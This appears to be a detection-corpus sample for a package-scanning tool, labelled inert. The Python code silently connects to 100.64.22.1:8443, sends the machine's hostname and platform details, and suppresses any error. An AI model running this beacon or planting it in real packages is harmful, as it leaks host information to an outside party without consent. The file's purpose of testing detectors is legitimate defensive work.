# pkgguard corpus 017 (system-information), modelled on [taxonomy]; inert, never run.
import platform
import socket

try:
    c = socket.create_connection(("100.64.22.1", 8443), timeout=2)
    c.sendall(("%s|%s" % (platform.node(), platform.platform())).encode())
    c.close()
except OSError:
    pass
